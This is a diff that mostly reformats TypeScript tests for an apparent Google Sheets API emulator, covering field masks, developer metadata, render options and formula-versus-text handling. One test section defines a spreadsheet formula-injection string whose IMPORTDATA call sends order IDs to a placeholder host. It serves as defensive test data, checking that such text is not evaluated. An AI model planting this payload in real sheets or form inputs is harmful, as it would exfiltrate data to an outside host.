@@ -20,7 +20,13 @@ describe('Spreadsheets.get: field masks', () => {
     expect(got).toEqual({
       sheets: [
         { properties: { sheetId: 0, title: 'Sheet1', gridProperties: { rowCount: 1000, columnCount: 26 } } },
-        { properties: { sheetId: items.getSheetId(), title: 'Line items', gridProperties: { rowCount: 1500, columnCount: 26 } } },
+        {
+          properties: {
+            sheetId: items.getSheetId(),
+            title: 'Line items',
+            gridProperties: { rowCount: 1500, columnCount: 26 },
+          },
+        },
       ],
     });
   });
@@ -31,8 +37,16 @@ describe('Spreadsheets.get: field masks', () => {
       properties: { timeZone: 'America/New_York' },
       sheets: [{ properties: { title: 'Sheet1' } }, { properties: { title: 'Line items' } }],
     });
-    const all = Sheets.Spreadsheets.get(ID, { fields: 'sheets(properties(*))' }) as { sheets: Array<{ properties: Record<string, unknown> }> };
-    expect(Object.keys(all.sheets[1].properties).sort()).toEqual(['gridProperties', 'index', 'sheetId', 'sheetType', 'title']);
+    const all = Sheets.Spreadsheets.get(ID, { fields: 'sheets(properties(*))' }) as {
+      sheets: Array<{ properties: Record<string, unknown> }>;
+    };
+    expect(Object.keys(all.sheets[1].properties).sort()).toEqual([
+      'gridProperties',
+      'index',
+      'sheetId',
+      'sheetType',
+      'title',
+    ]);
   });
 
   it('refuses a malformed mask with a 400 error', () => {
@@ -43,13 +57,15 @@ describe('Spreadsheets.get: field masks', () => {
 });
 
 describe('Spreadsheets.get: developer metadata', () => {
-  it('lists a sheet\'s own metadata with metadataId, metadataKey, metadataValue, location and visibility', () => {
+  it("lists a sheet's own metadata with metadataId, metadataKey, metadataValue, location and visibility", () => {
     const { Sheets, ss, items } = setup();
     items.addDeveloperMetadata('table', 'Line items');
     items.addDeveloperMetadata('flag', 'PROJECT');
     items.getRange('3:3').addDeveloperMetadata('row-tag', 'x');
     ss.addDeveloperMetadata('book', 'yes');
-    const got = Sheets.Spreadsheets.get(ID, { fields: 'developerMetadata,sheets(properties(title),developerMetadata)' }) as {
+    const got = Sheets.Spreadsheets.get(ID, {
+      fields: 'developerMetadata,sheets(properties(title),developerMetadata)',
+    }) as {
       developerMetadata: unknown[];
       sheets: Array<{ properties: { title: string }; developerMetadata?: Array<Record<string, unknown>> }>;
     };
@@ -62,14 +78,22 @@ describe('Spreadsheets.get: developer metadata', () => {
       ['flag', undefined, { locationType: 'SHEET', sheetId: items.getSheetId() }, 'PROJECT'],
     ]);
     expect(tags.every((m) => typeof m.metadataId === 'number' && (m.metadataId as number) > 0)).toBe(true);
-    expect(got.developerMetadata).toEqual([expect.objectContaining({ metadataKey: 'book', metadataValue: 'yes', location: { locationType: 'SPREADSHEET', spreadsheet: true } })]);
+    expect(got.developerMetadata).toEqual([
+      expect.objectContaining({
+        metadataKey: 'book',
+        metadataValue: 'yes',
+        location: { locationType: 'SPREADSHEET', spreadsheet: true },
+      }),
+    ]);
   });
 
   it('metadata ids match what SpreadsheetApp reports, and sub-masks pick fields of each entry', () => {
     const { Sheets, items } = setup();
     items.addDeveloperMetadata('store', 'st_1');
     const id = items.getDeveloperMetadata()[0].getId();
-    expect(Sheets.Spreadsheets.get(ID, { fields: 'sheets(developerMetadata(metadataId,location(locationType)))' })).toEqual({
+    expect(
+      Sheets.Spreadsheets.get(ID, { fields: 'sheets(developerMetadata(metadataId,location(locationType)))' }),
+    ).toEqual({
       sheets: [{}, { developerMetadata: [{ metadataId: id, location: { locationType: 'SHEET' } }] }],
     });
   });
@@ -88,21 +112,40 @@ describe('Values.batchGet: render options', () => {
 
   it('FORMATTED_VALUE (the default) gives the text shown; dateTimeRenderOption is then ignored', () => {
     const { Sheets } = filled();
-    const got = Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ["'Line items'!A2:D2"], dateTimeRenderOption: 'SERIAL_NUMBER' });
-    expect(got.valueRanges).toEqual([{ range: "'Line items'!A2:D2", majorDimension: 'ROWS', values: [['li_1', '2024-01-15 12:00', '1,234.50', 'TRUE']] }]);
+    const got = Sheets.Spreadsheets.Values.batchGet(ID, {
+      ranges: ["'Line items'!A2:D2"],
+      dateTimeRenderOption: 'SERIAL_NUMBER',
+    });
+    expect(got.valueRanges).toEqual([
+      {
+        range: "'Line items'!A2:D2",
+        majorDimension: 'ROWS',
+        values: [['li_1', '2024-01-15 12:00', '1,234.50', 'TRUE']],
+      },
+    ]);
   });
 
   it('UNFORMATTED_VALUE gives numbers, dates as serials by default or as text with FORMATTED_STRING', () => {
     const { Sheets } = filled();
-    const serial = Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ["'Line items'!A2:D2"], valueRenderOption: 'UNFORMATTED_VALUE' });
+    const serial = Sheets.Spreadsheets.Values.batchGet(ID, {
+      ranges: ["'Line items'!A2:D2"],
+      valueRenderOption: 'UNFORMATTED_VALUE',
+    });
     expect((serial.valueRanges[0] as { values: unknown[][] }).values).toEqual([['li_1', 45306.5, 1234.5, true]]);
-    const text = Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ["'Line items'!B2:C2"], valueRenderOption: 'UNFORMATTED_VALUE', dateTimeRenderOption: 'FORMATTED_STRING' });
+    const text = Sheets.Spreadsheets.Values.batchGet(ID, {
+      ranges: ["'Line items'!B2:C2"],
+      valueRenderOption: 'UNFORMATTED_VALUE',
+      dateTimeRenderOption: 'FORMATTED_STRING',
+    });
     expect((text.valueRanges[0] as { values: unknown[][] }).values).toEqual([['2024-01-15 12:00', 1234.5]]);
   });
 
   it('answers every range in order, leaving out trailing empty rows and cells but keeping empty rows inside', () => {
     const { Sheets } = filled();
-    const got = Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ["'Line items'!A1:E1", "'Line items'!A2:B1000", "'Line items'!F1:F9"], valueRenderOption: 'UNFORMATTED_VALUE' });
+    const got = Sheets.Spreadsheets.Values.batchGet(ID, {
+      ranges: ["'Line items'!A1:E1", "'Line items'!A2:B1000", "'Line items'!F1:F9"],
+      valueRenderOption: 'UNFORMATTED_VALUE',
+    });
     expect(got.valueRanges).toEqual([
       { range: "'Line items'!A1:E1", majorDimension: 'ROWS', values: [['id', 'placed', 'amount', 'flag']] },
       { range: "'Line items'!A2:B1000", majorDimension: 'ROWS', values: [['li_1', 45306.5], [], [], ['note']] },
@@ -112,45 +155,87 @@ describe('Values.batchGet: render options', () => {
 
   it('refuses an unknown render option', () => {
     const { Sheets } = filled();
-    expect(() => Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ['A1'], valueRenderOption: 'RAW' as never })).toThrow("Invalid value at 'value_render_option' (RAW)");
-    expect(() => Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ['A1'], dateTimeRenderOption: 'ISO' as never })).toThrow("Invalid value at 'date_time_render_option' (ISO)");
+    expect(() =>
+      Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ['A1'], valueRenderOption: 'RAW' as never }),
+    ).toThrow("Invalid value at 'value_render_option' (RAW)");
+    expect(() =>
+      Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ['A1'], dateTimeRenderOption: 'ISO' as never }),
+    ).toThrow("Invalid value at 'date_time_render_option' (ISO)");
   });
 });
 
 describe('text that starts with "=" is not a formula, on every read path (issue 19)', () => {
-  const HOSTILE = '=PROFIT_SUMMARY("2026-10-01","2026-10-31")&IMPORTDATA("https://x/?d="&ENCODEURL(JOIN(",",Orders!A2:A50)))';
+  const HOSTILE =
+    '=PROFIT_SUMMARY("2026-10-01","2026-10-31")&IMPORTDATA("https://x/?d="&ENCODEURL(JOIN(",",Orders!A2:A50)))';
 
   /** B2 a real formula; C2 the same text written RAW (a form response, a pasted CSV); C3 typed after an apostrophe. */
   function report() {
     const { Sheets, items } = setup();
-    Sheets.Spreadsheets.Values.batchUpdate({ valueInputOption: 'USER_ENTERED', data: [{ range: "'Line items'!B2", values: [['=SUM(1,2)']] }, { range: "'Line items'!C3", values: [[`'${HOSTILE}`]] }] }, ID);
-    Sheets.Spreadsheets.Values.batchUpdate({ valueInputOption: 'RAW', data: [{ range: "'Line items'!C2", values: [[HOSTILE]] }] }, ID);
+    Sheets.Spreadsheets.Values.batchUpdate(
+      {
+        valueInputOption: 'USER_ENTERED',
+        data: [
+          { range: "'Line items'!B2", values: [['=SUM(1,2)']] },
+          { range: "'Line items'!C3", values: [[`'${HOSTILE}`]] },
+        ],
+      },
+      ID,
+    );
+    Sheets.Spreadsheets.Values.batchUpdate(
+      { valueInputOption: 'RAW', data: [{ range: "'Line items'!C2", values: [[HOSTILE]] }] },
+      ID,
+    );
     return { Sheets, items };
   }
 
   it('Values.get with FORMULA and getValues give the text as a formula; getFormulas and grid data tell them apart', () => {
     const { Sheets, items } = report();
-    expect(Sheets.Spreadsheets.Values.get(ID, "'Line items'!B2:C3", { valueRenderOption: 'FORMULA' }).values).toEqual([['=SUM(1,2)', HOSTILE], ['', HOSTILE]]);
-    expect(items.getRange('B2:C3').getFormulas()).toEqual([['=SUM(1,2)', ''], ['', '']]);
+    expect(Sheets.Spreadsheets.Values.get(ID, "'Line items'!B2:C3", { valueRenderOption: 'FORMULA' }).values).toEqual([
+      ['=SUM(1,2)', HOSTILE],
+      ['', HOSTILE],
+    ]);
+    expect(items.getRange('B2:C3').getFormulas()).toEqual([
+      ['=SUM(1,2)', ''],
+      ['', ''],
+    ]);
     // Grid data: formulaValue for the formula, stringValue for the text; ranges keep only their sheets.
     const fields = 'sheets(properties.title,data(startRow,startColumn,rowData.values.userEnteredValue))';
     expect(Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:D9"], fields })).toEqual({
-      sheets: [{
-        properties: { title: 'Line items' },
-        data: [{ startRow: 1, startColumn: 1, rowData: [
-          { values: [{ userEnteredValue: { formulaValue: '=SUM(1,2)' } }, { userEnteredValue: { stringValue: HOSTILE } }] },
-          { values: [{}, { userEnteredValue: { stringValue: HOSTILE } }] },
-        ] }],
-      }],
+      sheets: [
+        {
+          properties: { title: 'Line items' },
+          data: [
+            {
+              startRow: 1,
+              startColumn: 1,
+              rowData: [
+                {
+                  values: [
+                    { userEnteredValue: { formulaValue: '=SUM(1,2)' } },
+                    { userEnteredValue: { stringValue: HOSTILE } },
+                  ],
+                },
+                { values: [{}, { userEnteredValue: { stringValue: HOSTILE } }] },
+              ],
+            },
+          ],
+        },
+      ],
     });
   });
 
   it('Spreadsheets.get gives no grid data unless includeGridData or the mask asks for it', () => {
     const { Sheets } = report();
-    const plain = Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:C3"] }) as { sheets: Array<Record<string, unknown>> };
+    const plain = Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:C3"] }) as {
+      sheets: Array<Record<string, unknown>>;
+    };
     expect(plain.sheets.map((s) => s.data)).toEqual([undefined]);
-    const grid = Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:C3"], includeGridData: true }) as { sheets: Array<{ data: unknown[] }> };
+    const grid = Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:C3"], includeGridData: true }) as {
+      sheets: Array<{ data: unknown[] }>;
+    };
     expect(grid.sheets[0].data).toHaveLength(1);
-    expect(() => Sheets.Spreadsheets.get(ID, { ranges: ["'No such'!A1"], includeGridData: true })).toThrow(/Unable to parse range/);
+    expect(() => Sheets.Spreadsheets.get(ID, { ranges: ["'No such'!A1"], includeGridData: true })).toThrow(
+      /Unable to parse range/,
+    );
   });
 });
